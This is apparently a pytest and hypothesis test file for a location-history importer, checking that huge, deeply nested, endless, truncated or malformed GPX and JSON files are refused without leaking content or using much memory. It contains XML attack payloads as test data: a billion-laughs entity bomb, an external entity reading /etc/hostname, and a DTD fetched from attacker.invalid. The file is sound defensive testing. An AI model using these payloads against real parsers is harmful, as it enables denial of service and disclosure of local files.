"""Attacks by a file that is imported as a history: huge, deep, endless, poisoned, cut off, or with words to leak.

Nothing of a hostile file is kept, memory stays small, and no error text holds a place.
"""

import io
import json
import subprocess
import sys
import tracemalloc
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ownhue.errors import FormatError
from ownhue_client.location.imports import import_history
from ownhue_client.phone import Phone
from tests.client.location import histories
from tests.client.location.endless import Endless
from tests.client.location.histories import NOW
from tests.client.town import Town


def error_of(read: Callable[[], object]) -> str:
    with pytest.raises(FormatError) as caught:
        read()
    # Neither the words nor what they came from may hold a piece of the file.
    assert caught.value.__cause__ is None
    return str(caught.value)


def refuse(stream: io.RawIOBase) -> str:
    return error_of(lambda: list(import_history(io.BufferedReader(stream), "history", NOW)))


BILLION_LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE gpx [<!ENTITY a "aaaaaaaaaa">
<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><gpx><trk>&c;</trk></gpx>"""
ENTITY_OF_A_FILE = b"""<?xml version="1.0"?><!DOCTYPE gpx [<!ENTITY x SYSTEM "file:///etc/hostname">]>
<gpx><trk><trkseg><trkpt lat="1" lon="1"><time>&x;</time></trkpt></trkseg></trk></gpx>"""
DTD_OF_A_SERVER = b"""<?xml version="1.0"?><!DOCTYPE gpx SYSTEM "http://attacker.invalid/x.dtd"><gpx></gpx>"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, ENTITY_OF_A_FILE, DTD_OF_A_SERVER])
def test_attack_entities_and_declarations_in_a_gpx_file(data: bytes) -> None:
    assert "line" in refuse(io.BytesIO(data))  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("head", "piece"),
    [
        (b'{"locations":[', b"["),
        (b'{"locations":[', b'{"a":'),
        (b'{"other":', b"["),
        (b"<gpx>", b"<a>"),
        (b'{"_type":"location","lat":', b"["),
        (b'{"_type":"location","lat":', b'{"a":'),
    ],
)
def test_attack_values_as_deep_as_the_file_is_long(head: bytes, piece: bytes) -> None:
    stream = Endless(head, piece, 1 << 22)
    assert refuse(stream)
    assert stream.given < 1 << 18


@pytest.mark.parametrize(
    ("head", "piece"),
    [
        (b'{"locations":[{"source":"', b"a" * 1024),
        (b'{"locations":[{"latitudeE7":', b"1" * 1024),
        (b'{"locations":[{"', b"a" * 1024),
        (b'{"locations":[', b" " * 1024),
        (b'{"_type":"location","tid":"', b"a" * 1024),
        (b'<gpx a="', b"a" * 1024),
        (b"<gpx><!--", b" " * 1024),
        (b"<gpx><trk><name>", b"a" * 1024),
    ],
)
def test_attack_one_value_without_an_end(head: bytes, piece: bytes) -> None:
    stream = Endless(head, piece, 1 << 26)
    tracemalloc.start()
    try:
        assert refuse(stream)
        assert tracemalloc.get_traced_memory()[1] < 12 << 20
    finally:
        tracemalloc.stop()
    assert stream.given < 1 << 22


def test_attack_one_item_with_values_without_an_end() -> None:
    stream = Endless(b'{"locations":[{"a":[', b"1," * 1024, 1 << 24)
    assert "one item" in refuse(stream)
    assert stream.given < 1 << 21


_NO_NUMBERS = [b"1e999999", b"-1e400", b"1" * 5000, b"-" + b"7" * 400, b"NaN", b"Infinity", b"0x10", b"1_0", b"+-1"]


@pytest.mark.parametrize("number", _NO_NUMBERS)
def test_attack_numbers_that_are_none(number: bytes) -> None:
    """They end in a refused file or a dropped point, never in a fix or another kind of error."""
    for data in (
        histories.records().replace(b": 469480000", b": " + number),
        histories.rec().replace(b": 46.948", b": " + number),
        histories.gpx().replace(b'"46.948"', b'"' + number + b'"'),
    ):
        history = import_history(io.BytesIO(data), "history", NOW)
        try:
            assert list(history) == []
        except FormatError as error:
            assert number[:3].decode() not in str(error)  # noqa: PT017


@pytest.mark.parametrize(
    "data",
    [histories.records(), histories.ios(), histories.android(), histories.rec(), histories.gpx()],
    ids=["records", "ios", "android", "owntracks", "gpx"],
)
def test_attack_a_file_cut_off_or_changed_anywhere(data: bytes) -> None:
    """At every 7th byte: it is read, or refused as FormatError in words without content; never anything else."""
    for at in range(0, len(data), 7):
        for changed in (data[:at], data[:at] + b"\xff" + data[at + 1 :], data[:at] + b'"' + data[at + 1 :]):
            try:
                history = import_history(io.BytesIO(changed), "history", NOW)
                assert len(list(history)) <= 6
            except FormatError as error:
                assert "46" not in str(error).partition("byte")[0]  # noqa: PT017
                assert error.__cause__ is None  # noqa: PT017


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.integers(10**300, 10**320) | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=3), inner, max_size=3),
    max_leaves=5,
)
_POINTS: list[Callable[[Any], Any]] = [
    lambda value: {"locations": [{"latitudeE7": value, "longitudeE7": value, "timestamp": value, "accuracy": value}]},
    lambda value: {"locations": [value, {"latitudeE7": 469480000, "longitudeE7": 1, "timestampMs": value}]},
    lambda value: {"rawSignals": [{"position": {"LatLng": value, "timestamp": value, "accuracyMeters": value}}]},
    lambda value: {"semanticSegments": [{"startTime": value, "endTime": value, "visit": value, "timelinePath": value}]},
    lambda value: [{"startTime": value, "endTime": value, "visit": histories.candidate("", value), "activity": value}],
    lambda value: [{"startTime": histories.iso(NOW), "timelinePath": [{"durationMinutesOffsetFromStartTime": value}]}],
    lambda value: {"_type": "location", "lat": value, "lon": value, "tst": value, "acc": value},
    lambda value: {"_type": "location", "lat": 46.9, "lon": 7.4, "tst": NOW - 60, "acc": value},
    lambda value: {"features": [{"geometry": {"type": "Point", "coordinates": value}, "properties": value}]},
    lambda value: {"features": [{"geometry": value, "properties": {"coordTimes": value}}]},
]


@settings(max_examples=500)
@given(_JSON, st.sampled_from(_POINTS))
def test_attack_any_value_in_the_place_of_another(value: Any, point: Callable[[Any], Any]) -> None:
    data = json.dumps(point(value)).encode()
    try:
        for fix in import_history(io.BytesIO(data), "history", NOW):
            assert abs(fix.latitude) <= 90
            assert abs(fix.longitude) <= 180
            assert 0 <= fix.accuracy <= 900
            assert 0 <= NOW - fix.time < 16 * 86_400
    except FormatError as error:
        assert error.__cause__ is None  # noqa: PT017


def test_attack_bytes_that_are_no_text() -> None:
    for encoding in ("utf-16", "utf-32", "utf-16-le"):
        refuse(io.BytesIO(histories.records().decode().encode(encoding)))  # type: ignore[arg-type]
    assert "byte" in refuse(io.BytesIO(histories.records().replace(b"WIFI", b"\xff\xfe")))  # type: ignore[arg-type]
    assert "line" in refuse(io.BytesIO(b'<?xml version="1.0" encoding="no-such"?><gpx></gpx>'))  # type: ignore[arg-type]


def test_attack_a_broken_file_leaves_nothing_behind_unless_the_owner_wants_it(tmp_path: Path) -> None:
    phone = Town().phone(tmp_path / "phone")
    whole = histories.records()
    broken = whole[: whole.rindex(b"latitude")]
    with pytest.raises(FormatError, match="near byte"):
        phone.import_places(io.BytesIO(broken), "history", NOW)
    assert phone.places() == []
    report = phone.import_places(io.BytesIO(broken), "history", NOW, keep_partial=True)
    assert (report.kept, len(phone.places())) == (4, 4)
    assert "near byte" in report.broken


def test_attack_a_history_that_floods_the_store(tmp_path: Path) -> None:
    """A point for each second of 14 days becomes one a minute; a second import of the same adds nothing."""
    phone: Phone = Town().phone(tmp_path / "phone")
    line = '{{"_type":"location","lat":46.9,"lon":7.4,"acc":5,"tst":{}}}\n'
    data = "".join(line.format(NOW - 86_400 + second) for second in range(86_400)).encode()
    report = phone.import_places(io.BytesIO(data), "history", NOW)
    assert (report.read, report.kept, len(phone.places())) == (86_400, 1440, 1440)
    again = phone.import_places(io.BytesIO(data), "history", NOW)
    assert (again.kept, len(phone.places())) == (0, 1440)


_MEMORY = """
import io, resource, sys
from ownhue_client.location.imports import import_history
from tests.client.location.endless import Endless
from tests.client.location.histories import NOW
place = b'"latitudeE7": 469480000, "longitudeE7": 74474000, "accuracy": 20'
piece = (b"{" + place + b', "timestamp": "2026-01-06T12:00:00Z"},') * 100
stream = io.BufferedReader(Endless(b'{"locations":[', piece, int(sys.argv[1]), piece[:-1] + b"]}"))
history = import_history(stream, "history", NOW)
kept = len(list(history))
print(kept, history.report().read, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
"""


def peak_kilobytes(size: int) -> int:
    done = subprocess.run([sys.executable, "-c", _MEMORY, str(size)], capture_output=True, check=True, text=True)
    kept, _, peak = map(int, done.stdout.split())
    assert kept == 1
    return peak


@pytest.mark.acceptance
def test_half_a_gigabyte_of_records_takes_no_more_memory_than_a_megabyte() -> None:
    assert peak_kilobytes(1 << 29) - peak_kilobytes(1 << 20) < 8 * 1024


def test_ten_megabytes_of_records_take_no_more_memory_than_one() -> None:
    assert peak_kilobytes(10 << 20) - peak_kilobytes(1 << 20) < 4 * 1024
